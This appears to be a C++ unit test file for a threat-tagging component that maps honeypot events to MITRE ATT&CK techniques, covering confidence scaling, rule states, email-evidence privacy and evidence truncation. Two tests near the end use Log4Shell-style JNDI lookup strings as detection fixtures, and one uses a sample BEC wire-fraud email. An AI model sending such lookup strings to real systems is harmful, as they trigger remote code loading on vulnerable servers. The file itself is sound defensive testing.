// EventTagger over the shipped pack (rules/ttp): what one event becomes as tags. Pinned here: an
// intel lifter emits only the technique its provider's signal maps to, at the rule's confidence
// scaled by the provider's score; every tag of every kind links to its ATT&CK page; operators'
// states clip (never raise) and silence; an email tag's evidence never repeats an address, the
// subject or the body even when the payload carries them; and evidence texts are bounded.
// Expectations are read from the rules themselves (their emits), not copied from the code.
#include "ttp/event_tagger.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include "core/hash.h"
#include "core/json_text.h"
#include "ttp/rule_loader.h"

namespace decnet::ttp {
namespace {

const std::filesystem::path kPack = std::filesystem::path(DECNET_SOURCE_DIR) / "rules" / "ttp";
constexpr std::int64_t kNow = 1'777'000'000'000'000;
constexpr std::size_t kMaxEvidenceText = 4096;

const EventTagger& tagger() {
  static const EventTagger instance(load_rule_directory(kPack));
  return instance;
}

const Rule& rule(const std::string& id) {
  const auto& rules = tagger().rules();
  const auto it =
      std::find_if(rules.begin(), rules.end(), [&](const Rule& r) { return r.rule_id == id; });
  if (it == rules.end()) throw std::out_of_range("no rule " + id + " in the pack");
  return *it;
}

double base_confidence(const std::string& rule_id, const std::string& technique_id) {
  for (const auto& em : rule(rule_id).emits) {
    if (em.technique_id == technique_id) return em.confidence;
  }
  throw std::out_of_range(rule_id + " emits no " + technique_id);
}

TagEvent event(std::string kind, nlohmann::json payload) {
  TagEvent e;
  e.source_kind = std::move(kind);
  e.source_id = "test:1";
  e.attacker_uuid = "0123456789abcdef0123456789abcdef";
  e.at = kNow - 1;
  e.payload = std::move(payload);
  return e;
}

std::vector<store::TtpTag> of_rule(const std::vector<store::TtpTag>& tags, const std::string& id) {
  std::vector<store::TtpTag> out;
  for (const auto& t : tags) {
    if (t.rule_id == id) out.push_back(t);
  }
  return out;
}

store::TtpRuleState state(const std::string& rule_id, std::string s,
                          std::optional<double> ceiling = std::nullopt,
                          std::optional<std::int64_t> expires = std::nullopt) {
  store::TtpRuleState st;
  st.rule_id = rule_id;
  st.state = std::move(s);
  st.confidence_max = ceiling;
  st.expires_at = expires;
  return st;
}

TagEvent abuse(double score, std::vector<int> categories) {
  return event("intel", {{"abuseipdb_score", score}, {"abuseipdb_categories", categories}});
}

TEST(EventTagger, AnAbuseIpdbCategoryGivesItsTechniqueAtTheScaledConfidence) {
  const double score = 60;
  const auto tags = of_rule(tagger().tag(abuse(score, {18}), {}, kNow), "R0054");
  // Category 18 (brute force) is T1110; none of R0054's other techniques is emitted.
  ASSERT_EQ(tags.size(), 1u);
  EXPECT_EQ(tags[0].technique_id, "T1110");
  EXPECT_DOUBLE_EQ(tags[0].confidence, base_confidence("R0054", "T1110") * score / 100);
  EXPECT_EQ(tags[0].source_kind, "intel");
  EXPECT_EQ(tags[0].attacker_uuid, "0123456789abcdef0123456789abcdef");
  const auto evidence = nlohmann::json::parse(tags[0].evidence);
  EXPECT_EQ(evidence["abuseipdb_categories"], nlohmann::json::array({18}));
  EXPECT_EQ(evidence["abuse_confidence_score"], score);
}

TEST(EventTagger, EveryTagLinksToItsAttackPage) {
  EXPECT_EQ(mitre_url("T1059.004"), "https://attack.mitre.org/techniques/T1059/004/");
  EXPECT_EQ(mitre_url("T1110"), "https://attack.mitre.org/techniques/T1110/");
  // Every rule fired on its first fixture, under every kind it applies to.
  std::set<std::string> kinds;
  std::set<std::string> rules_tagged;
  for (const auto& r : tagger().rules()) {
    for (const auto& kind : r.applies_to) {
      nlohmann::json payload;
      if (r.is_lifter()) {
        if (r.fires_on_payloads.empty()) continue;
        payload = r.fires_on_payloads.front();
      } else {
        if (r.fires_on.empty()) continue;
        payload = {{r.field.empty() ? default_field(kind) : r.field, r.fires_on.front()}};
      }
      for (const auto& t : tagger().tag(event(kind, payload), {}, kNow)) {
        kinds.insert(t.source_kind);
        rules_tagged.insert(t.rule_id);
        auto id = t.sub_technique_id.value_or(t.technique_id);
        std::replace(id.begin(), id.end(), '.', '/');
        EXPECT_EQ(t.mitre_url, "https://attack.mitre.org/techniques/" + id + "/")
            << t.rule_id << " " << t.source_kind;
        EXPECT_EQ(t.attack_release, kAttackRelease);
      }
    }
  }
  EXPECT_EQ(rules_tagged.size(), tagger().rules().size());
  for (const auto* kind :
       {"intel", "command", "http_request", "email", "session", "auth_attempt"}) {
    EXPECT_TRUE(kinds.contains(kind)) << kind;
  }
}

TEST(EventTagger, AClippedStateLowersConfidenceButNeverRaisesIt) {
  const double base = base_confidence("R0054", "T1110");
  const double low = base / 2;
  const RuleStates clipped_low = {{"R0054", state("R0054", "clipped", low)}};
  auto tags = of_rule(tagger().tag(abuse(100, {18}), clipped_low, kNow), "R0054");
  ASSERT_EQ(tags.size(), 1u);
  EXPECT_DOUBLE_EQ(tags[0].confidence, low);

  const RuleStates clipped_high = {{"R0054", state("R0054", "clipped", 0.99)}};
  tags = of_rule(tagger().tag(abuse(100, {18}), clipped_high, kNow), "R0054");
  ASSERT_EQ(tags.size(), 1u);
  EXPECT_DOUBLE_EQ(tags[0].confidence, base);
  // A ceiling above the scaled value leaves it as it is.
  tags = of_rule(tagger().tag(abuse(40, {18}), clipped_low, kNow), "R0054");
  ASSERT_EQ(tags.size(), 1u);
  ASSERT_LT(base * 40 / 100, low);
  EXPECT_DOUBLE_EQ(tags[0].confidence, base * 40 / 100);
}

TEST(EventTagger, ADisabledStateSilencesALifterRuleAndOnlyIt) {
  auto e = abuse(100, {18});
  e.payload["feodo_listed"] = true;
  const RuleStates off = {{"R0054", state("R0054", "disabled")}};
  const auto tags = tagger().tag(e, off, kNow);
  EXPECT_TRUE(of_rule(tags, "R0054").empty());
  EXPECT_EQ(of_rule(tags, "R0056").size(), rule("R0056").emits.size());
  // Once the decision has lapsed the rule fires again.
  const RuleStates lapsed = {{"R0054", state("R0054", "disabled", std::nullopt, kNow)}};
  EXPECT_EQ(of_rule(tagger().tag(e, lapsed, kNow), "R0054").size(), 1u);
}

TEST(EventTagger, EmailEvidenceHoldsNoAddressSubjectOrBody) {
  const std::string subject = "URGENT wire needed today";
  const std::string body = "Please transfer 9,800 EUR before noon, keep it confidential.";
  const std::vector<std::string> rcpt_domains = {"Target.example", "other.example"};
  const auto e = event("email", {{"from", "ceo@bank.example"},
                                 {"mail_from", "bulk@spam.example"},
                                 {"return_path", "bounce@spam.example"},
                                 {"rcpt_to", "a@target.example, b@other.example"},
                                 {"rcpt_count", 12},
                                 {"rcpt_domains", rcpt_domains},
                                 {"subject", subject},
                                 {"body_text", body}});
  const auto tags = tagger().tag(e, {}, kNow);
  // An open relay (12 recipients, foreign From), a forged sender, BEC wording.
  for (const auto* id : {"R0041", "R0045", "R0047"}) {
    EXPECT_FALSE(of_rule(tags, id).empty()) << id;
  }
  std::set<std::string> domains;
  for (const auto& d : rcpt_domains) {
    std::string lower = d;
    std::transform(lower.begin(), lower.end(), lower.begin(),
                   [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    domains.insert(lower);
  }
  ASSERT_FALSE(tags.empty());
  for (const auto& t : tags) {
    SCOPED_TRACE(t.rule_id + " " + t.evidence);
    EXPECT_EQ(t.evidence.find('@'), std::string::npos);
    EXPECT_EQ(t.evidence.find(subject), std::string::npos);
    EXPECT_EQ(t.evidence.find(body), std::string::npos);
    EXPECT_EQ(t.evidence.find("bank.example"), std::string::npos);  // nor the From domain
    const auto evidence = nlohmann::json::parse(t.evidence);
    EXPECT_EQ(evidence["body_sha256"], core::sha256_hex(body));
    EXPECT_EQ(evidence["rcpt_domain_set"], domains);
    ASSERT_TRUE(evidence["matched_headers"].is_array());
    EXPECT_FALSE(evidence["matched_headers"].empty());
  }
}

// Ingest puts the URL, headers and body of a request in request_text (searched, never stored):
// a lookup in a header fires R0008 though the URL is harmless, and the headers are not evidence.
TEST(EventTagger, ALookupHiddenInTheHeadersFiresR0008) {
  const std::string headers = R"({"X-Api-Version": "${jndi:ldap://198.51.100.9/a}"})";
  auto e = event("http_request", {{"method", "GET"},
                                  {"raw_url", "/"},
                                  {"request_path", "/"},
                                  {"request_text", "/\n" + headers}});
  const auto tags = of_rule(tagger().tag(e, {}, kNow), "R0008");
  ASSERT_EQ(tags.size(), rule("R0008").emits.size());
  EXPECT_EQ(tags[0].evidence.find("jndi"), std::string::npos) << tags[0].evidence;
  EXPECT_EQ(nlohmann::json::parse(tags[0].evidence)["raw_url"], "/");
  // The same request with harmless headers: nothing.
  e.payload["request_text"] = std::string("/\n") + R"({"X-Api-Version": "1.0"})";
  EXPECT_TRUE(of_rule(tagger().tag(e, {}, kNow), "R0008").empty());
}

TEST(EventTagger, EvidenceTextsAreCut) {
  const std::string lookup = "/?x=${jndi:ldap://198.51.100.7:1389/a}";
  const std::string url = lookup + "&pad=" + std::string(5000, 'A');
  ASSERT_GT(url.size(), kMaxEvidenceText);
  const auto e =
      event("http_request", {{"method", "GET"}, {"raw_url", url}, {"request_text", url}});
  const auto tags = of_rule(tagger().tag(e, {}, kNow), "R0008");
  ASSERT_FALSE(tags.empty());
  const auto kept = nlohmann::json::parse(tags[0].evidence)["raw_url"].get<std::string>();
  EXPECT_EQ(kept.size(), kMaxEvidenceText);
  EXPECT_EQ(kept, url.substr(0, kMaxEvidenceText));

  // Never inside a UTF-8 sequence: a two-byte character straddling the limit goes whole.
  const std::string wide =
      lookup + std::string(kMaxEvidenceText - 1 - lookup.size(), 'A') + "\u00e9" + "tail";
  const auto wide_tags = of_rule(
      tagger().tag(
          event("http_request", {{"method", "GET"}, {"raw_url", wide}, {"request_text", wide}}), {},
          kNow),
      "R0008");
  ASSERT_FALSE(wide_tags.empty());
  EXPECT_EQ(nlohmann::json::parse(wide_tags[0].evidence)["raw_url"],
            wide.substr(0, kMaxEvidenceText - 1));

  // A short one is kept whole.
  const auto short_tags = of_rule(
      tagger().tag(
          event("http_request", {{"method", "GET"}, {"raw_url", lookup}, {"request_text", lookup}}),
          {}, kNow),
      "R0008");
  ASSERT_FALSE(short_tags.empty());
  EXPECT_EQ(nlohmann::json::parse(short_tags[0].evidence)["raw_url"], lookup);
}

}  // namespace
}  // namespace decnet::ttp
